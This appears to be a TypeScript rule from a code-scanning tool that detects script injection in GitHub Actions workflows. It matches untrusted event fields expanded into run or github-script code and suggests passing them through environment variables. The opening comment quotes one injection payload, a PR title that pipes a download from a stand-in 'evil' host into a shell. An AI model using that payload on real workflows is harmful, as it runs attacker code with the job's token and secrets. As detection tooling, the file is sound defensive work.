// workflow-script-injection: an attacker-controlled event field expanded with `${{ }}` straight into
// a `run:` script (or an actions/github-script `script:`) (RULES.md, security). GitHub substitutes
// the text before the shell parses it, so a PR title like `"; curl evil | sh #` runs as code with
// the job's token. Passing the value through `env:` and quoting "$VAR" is safe and not reported.
// https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections
import { parseExpression } from '../../analysis/expressions.js';
import { WORKFLOW_GLOBS, workflowOf } from '../../analysis/workflow.js';
import { defineCheck } from '../../model/check.js';

const STAR = String.raw`(?:\.\*|\[[^\]]*\])?`;
const AUTHOR = String.raw`author\.(?:email|name)`;
export const UNTRUSTED = new RegExp(
  String.raw`\bgithub\s*\.\s*(?:head_ref\b|event\.(?:issue\.(?:title|body)|pull_request\.(?:title|body|head\.(?:ref|label|repo\.default_branch))|comment\.body|review\.body|review_comment\.body|discussion\.(?:title|body)|pages${STAR}\.page_name|commits${STAR}\.(?:message|${AUTHOR})|head_commit\.(?:message|${AUTHOR})|workflow_run\.(?:head_branch|head_commit\.(?:message|${AUTHOR}))))`,
);

export default defineCheck({
  meta: {
    id: 'workflow-script-injection',
    area: 'security',
    severity: 'P1',
    effortMinutes: 30,
    title: 'Untrusted input in a workflow script',
    certainty: 'proven',
    precision: 'high',
    // security: whoever controls the expanded field runs code with the job's token and secrets.
    tags: ['security'],
    docs: 'rules/checks/workflow-script-injection.md',
    pure: true,
    repositoryFiles: true,
    files: WORKFLOW_GLOBS,
    messages: {
      injection: '`{expr}` is expanded into the {where} of job `{job}` in {workflow}: anyone who controls that field can run code in the job, with its token and secrets.',
    },
    remediation:
      'Pass the value through an environment variable and quote it in the script: `env: TITLE: ${{ github.event.issue.title }}` then `echo "$TITLE"`; never put untrusted `${{ }}` expressions inside `run:` or `script:`.',
  },
  create(ctx) {
    return {
      file(f) {
        const wf = workflowOf(f, ctx);
        const events = new Set(wf.on);
        for (const job of wf.jobs) {
          for (const step of job.steps) {
            const sources: Array<{ text: string; where: string; lineAt: (offset: number) => number }> = [];
            if (step.run) {
              const run = step.run;
              sources.push({ text: run.text, where: 'run script', lineAt: (o) => run.fileLine(countLines(run.text, o)) });
            }
            const script = step.with['script'];
            if (script !== undefined && step.uses?.owner === 'actions' && step.uses.repo === 'github-script') {
              sources.push({ text: script, where: 'github-script code', lineAt: () => step.line });
            }
            for (const s of sources) {
              for (const m of s.text.matchAll(/\$\{\{([\s\S]*?)\}\}/g)) {
                const hit = UNTRUSTED.exec(m[1]!);
                if (!hit || yieldsNoText(m[1]!) || !setByTriggers(hit[0], events)) continue;
                ctx.report({
                  messageId: 'injection',
                  location: { path: f.path, line: s.lineAt(m.index) },
                  data: { expr: `\${{ ${m[1]!.trim()} }}`, where: s.where, job: job.id, workflow: f.path },
                  fingerprintKey: `${job.id}:${m[1]!.trim()}`,
                });
              }
            }
          }
        }
      },
    };
  },
});

/**
 * The events whose payload holds each untrusted field: on any other trigger the field is empty and
 * nobody controls it (a `workflow_run.head_branch` in a workflow whose `workflow_run` trigger is
 * commented out). A reusable workflow (`workflow_call`) gets its caller's event, so it keeps them all.
 */
const FIELD_EVENTS: Array<[RegExp, readonly string[]]> = [
  [/head_ref$/, ['pull_request', 'pull_request_target']],
  [/event\.issue\./, ['issues', 'issue_comment']],
  [/event\.pull_request\./, ['pull_request', 'pull_request_target', 'pull_request_review', 'pull_request_review_comment']],
  [/event\.comment\./, ['issue_comment', 'pull_request_review_comment', 'commit_comment', 'discussion_comment']],
  [/event\.review\./, ['pull_request_review']],
  [/event\.review_comment\./, ['pull_request_review_comment']],
  [/event\.discussion\./, ['discussion', 'discussion_comment']],
  [/event\.pages/, ['gollum']],
  [/event\.(?:commits|head_commit)/, ['push']],
  [/event\.workflow_run\./, ['workflow_run']],
];

function setByTriggers(field: string, events: ReadonlySet<string>): boolean {
  if (events.size === 0 || events.has('workflow_call')) return true;
  const compact = field.replace(/\s+/g, '');
  const known = FIELD_EVENTS.find(([re]) => re.test(compact));
  return !known || known[1].some((e) => events.has(e));
}

/** Functions whose result is a boolean or a hash, whatever their arguments hold. */
const NO_TEXT_CALLS = new Set(['contains', 'startswith', 'endswith', 'success', 'failure', 'always', 'cancelled', 'hashfiles']);

/**
 * Whether the expression's value can hold no text at all: a negation, a comparison, or a call that
 * returns a boolean or a hash (`${{ !contains(github.head_ref, 'release') }}` expands to `true` or
 * `false`). `&&` and `||` return one of their operands, so they are not of this kind.
 */
function yieldsNoText(expr: string): boolean {
  const e = parseExpression(expr.trim());
  if (!e) return false;
  if (e.t === 'not') return true;
  if (e.t === 'bin') return e.op !== '&&' && e.op !== '||';
  return e.t === 'call' && NO_TEXT_CALLS.has(e.name.toLowerCase());
}

function countLines(s: string, end: number): number {
  let n = 0;
  for (let i = s.indexOf('\n'); i !== -1 && i < end; i = s.indexOf('\n', i + 1)) n++;
  return n;
}
